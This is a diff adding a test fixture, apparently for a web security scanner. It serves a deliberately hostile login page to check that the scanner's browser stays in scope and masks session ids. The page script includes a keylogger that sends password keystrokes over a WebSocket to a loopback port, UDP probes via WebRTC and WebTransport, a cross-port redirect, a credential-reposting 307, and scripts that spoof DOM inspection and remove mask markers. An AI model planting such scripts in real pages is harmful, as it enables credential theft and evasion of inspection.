@@ -1,0 +1,177 @@
+// A login page that turns against the browser the scanner logs in with. Its form is served without a
+// charset (Chromium then posts it in windows-1252: ü as %FC); its script tries every way out of the
+// scan's scope the issue names: WebRTC's STUN (and WebTransport's QUIC) over UDP to a loopback port, a keylogger that sends each
+// keystroke of the password over a WebSocket to ws://localhost:<another port>, an image that
+// redirects to another port of the same host, and optionally a 307 that re-posts the typed form to
+// another origin. The check page can draw the session id in the ways a screenshot check must see or
+// mask (?v=canvas, css-attr, iframe, svg, shadow-closed, …). The session id is kept at login, so the
+// scanner confirms SG-FIX-LOGIN.
+import { randomBytes } from 'node:crypto'
+import { createSocket, type Socket as UdpSocket } from 'node:dgram'
+import { existsSync, readFileSync } from 'node:fs'
+import type { IncomingMessage, ServerResponse } from 'node:http'
+import { startHostileApp, type HostileApp } from './app.js'
+import { startElsewhere, type Elsewhere } from './elsewhere.js'
+
+export interface HostileBrowserLogin {
+  url: string
+  /** A scan config for a browser login as alice (screenshots are the caller's option). */
+  config: Record<string, unknown>
+  app: HostileApp
+  /** Another loopback port: every TCP connection to it counts. */
+  elsewhere: Elsewhere
+  /** UDP datagrams received on the loopback port the page names as its STUN server. */
+  readonly udpPackets: number
+  close(): Promise<void>
+}
+
+export const HOSTILE_BROWSER_ACCOUNT = { username: 'alice', password: 'Grüße Paß €Ω-7' } as const
+
+const DEJAVU = '/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf'
+
+/** The check page's ways of drawing the session id. */
+function drawId(variant: string, sid: string): string {
+  const box = 'position:absolute;left:100px;top:200px;width:300px;height:60px'
+  const svg = (text: string): string =>
+    `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="60"><rect width="300" height="60" fill="white"/><text x="4" y="40" font-size="14">${text}</text></svg>`
+  switch (variant) {
+    case 'canvas':
+      return `<canvas id="c" width="300" height="60" style="${box}"></canvas><script>const g=document.getElementById('c').getContext('2d');g.font='14px sans-serif';g.fillText(${JSON.stringify(sid)},4,40)</script>`
+    case 'css-attr':
+      return `<style>#d::after{content:attr(data-s)}</style><div id="d" data-s="${sid}" style="${box}"></div>`
+    case 'iframe':
+      return `<iframe style="${box}" srcdoc="<p>${sid}</p>"></iframe>`
+    case 'svg':
+      return `<div style="${box}">${svg(sid)}</div>`
+    case 'img':
+      return `<img style="${box}" src="/id.svg">`
+    case 'background':
+      return `<div style="${box};background-image:url(/id.svg)"></div>`
+    case 'shadow-closed':
+      return `<div id="h" style="${box}"></div><script>document.getElementById('h').attachShadow({mode:'closed'}).innerHTML='<p>'+${JSON.stringify(sid)}+'</p>'</script>`
+    case 'shadow-open':
+      return `<div id="h" style="${box}"></div><script>document.getElementById('h').attachShadow({mode:'open'}).innerHTML='<p>'+${JSON.stringify(sid)}+'</p>'</script>`
+    case 'list-marker':
+      return `<ul style="${box}"><li style='list-style-type:"${sid} "'>item</li></ul>`
+    case 'placeholder':
+      return `<input style="${box}" placeholder="${sid}">`
+    case 'hex-upper':
+      return `<p style="${box};text-transform:uppercase">${Buffer.from(sid).toString('hex')}</p>`
+    case 'base64-of-base64':
+      return `<p style="${box}">${Buffer.from(Buffer.from(sid).toString('base64')).toString('base64')}</p>`
+    case 'liar':
+      // the page lies to any check run among its own scripts
+      return `<p style="${box}">${sid}</p><script>Object.defineProperty(HTMLElement.prototype,'innerText',{get(){return 'Signed in as alice'}});Object.defineProperty(Node.prototype,'textContent',{get(){return ''}});window.getComputedStyle=()=>({getPropertyValue:()=>'none',content:'none',listStyleType:'disc'})</script>`
+    case 'unmask':
+      // and takes a mask marker off as soon as it appears
+      return `<div id="u" style="${box};background-image:url(/id.svg)"></div><script>new MutationObserver((ms)=>{for(const m of ms)if(m.target.removeAttribute)for(const a of Array.from(m.target.attributes||[]))if(a.name.startsWith('data-'))m.target.removeAttribute(a.name)}).observe(document,{attributes:true,subtree:true});setInterval(()=>{for(const e of document.querySelectorAll('*'))for(const a of Array.from(e.attributes))if(a.name.startsWith('data-'))e.removeAttribute(a.name)},1)</script>`
+    case 'webfont':
+      return `<style>@font-face{font-family:odd;src:url(/font.ttf),local("DejaVu Sans"),local("Liberation Sans")}</style><p style="${box};font-family:odd">Welcome back</p>`
+    default:
+      return `<p style="${box}">Welcome back</p>`
+  }
+}
+
+function loginPage(elsewherePort: number, udpPort: number): string {
+  // no charset anywhere: Chromium reads and posts the page in windows-1252
+  return `<!doctype html><html><head><title>Sign in</title></head><body>
+<form method="post" action="/login"><input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>
+<img src="/bounce" width="1" height="1">
+<script>
+try {
+  const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] })
+  pc.createDataChannel('x')
+  pc.createOffer().then((o) => pc.setLocalDescription(o))
+} catch (e) {}
+// WebTransport is QUIC, over UDP too
+try { new WebTransport('https://127.0.0.1:${udpPort}/').ready.catch(() => {}) } catch (e) {}
+document.querySelector('input[type=password]').addEventListener('input', (e) => {
+  try {
+    const ws = new WebSocket('ws://localhost:${elsewherePort}/keys')
+    ws.onopen = () => ws.send(e.target.value)
+  } catch (err) {}
+})
+</script></body></html>`
+}
+
+export async function startHostileBrowserLogin(opts: { repost307?: boolean } = {}): Promise<HostileBrowserLogin> {
+  const elsewhere = await startElsewhere()
+  let udpPackets = 0
+  const udp: UdpSocket = createSocket('udp4')
+  udp.on('message', () => void udpPackets++)
+  await new Promise<void>((ok) => udp.bind(0, '127.0.0.1', () => ok()))
+  const udpPort = udp.address().port
+  const elsewherePort = Number(new URL(elsewhere.url).port)
+  const loggedIn = new Set<string>()
+  const sidOf = (req: IncomingMessage): string | undefined => /(?:^|;\s*)sid=([^;]+)/.exec(req.headers.cookie ?? '')?.[1]
+  const app = await startHostileApp((req: IncomingMessage, res: ServerResponse, body: string) => {
+    const url = new URL(req.url ?? '/', 'http://x')
+    let sid = sidOf(req)
+    if (url.pathname === '/login' && req.method === 'GET') {
+      if (!sid) {
+        sid = randomBytes(18).toString('base64url')
+        res.setHeader('set-cookie', `sid=${sid}; Path=/`)
+      }
+      res.setHeader('content-type', 'text/html')
+      return void res.end(loginPage(elsewherePort, udpPort))
+    }
+    if (url.pathname === '/login' && req.method === 'POST') {
+      // any password: the test reads what arrived (the bytes Chromium chose) from the recorded request
+      if (!/(?:^|&)username=alice(?:&|$)/.test(body)) return void res.writeHead(401).end('no')
+      if (opts.repost307) return void res.writeHead(307, { location: `${elsewhere.url}/collect` }).end()
+      if (!sid) {
+        sid = randomBytes(18).toString('base64url')
+        res.setHeader('set-cookie', `sid=${sid}; Path=/`)
+      }
+      loggedIn.add(sid)
+      return void res.writeHead(303, { location: '/account' }).end()
+    }
+    if (url.pathname === '/bounce') return void res.writeHead(302, { location: `http://127.0.0.1:${elsewherePort}/pixel.gif` }).end()
+    if (url.pathname === '/id.svg') {
+      res.setHeader('content-type', 'image/svg+xml')
+      return void res.end(
+        `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="60"><rect width="300" height="60" fill="white"/><text x="4" y="40" font-size="14">${sid ?? ''}</text></svg>`,
+      )
+    }
+    if (url.pathname === '/font.ttf') {
+      res.setHeader('content-type', 'font/ttf')
+      return void res.end(existsSync(DEJAVU) ? readFileSync(DEJAVU) : Buffer.alloc(0))
+    }
+    if (url.pathname === '/account') {
+      if (!sid || !loggedIn.has(sid)) return void res.writeHead(302, { location: '/login' }).end()
+      res.setHeader('content-type', 'text/html; charset=utf-8')
+      return void res.end(
+        `<!doctype html><html><body style="margin:0"><p>Signed in as alice</p>${drawId(url.searchParams.get('v') ?? '', sid)}</body></html>`,
+      )
+    }
+    if (url.pathname === '/logout') {
+      if (sid) loggedIn.delete(sid)
+      return void res.writeHead(303, { location: '/login' }).end()
+    }
+    res.writeHead(404).end()
+  })
+  return {
+    url: app.url,
+    app,
+    elsewhere,
+    get udpPackets() {
+      return udpPackets
+    },
+    config: {
+      target: app.url,
+      login: {
+        type: 'browser',
+        page: '/login',
+        credentials: { ...HOSTILE_BROWSER_ACCOUNT },
+        check: { url: '/account', contains: 'Signed in as alice' },
+      },
+      logout: { url: '/logout', method: 'GET' },
+      scope: { timeout: '10s', budget: '3m' },
+    },
+    close: async () => {
+      await app.close()
+      await elsewhere.close()
+      await new Promise<void>((ok) => udp.close(() => ok()))
+    },
+  }
+}
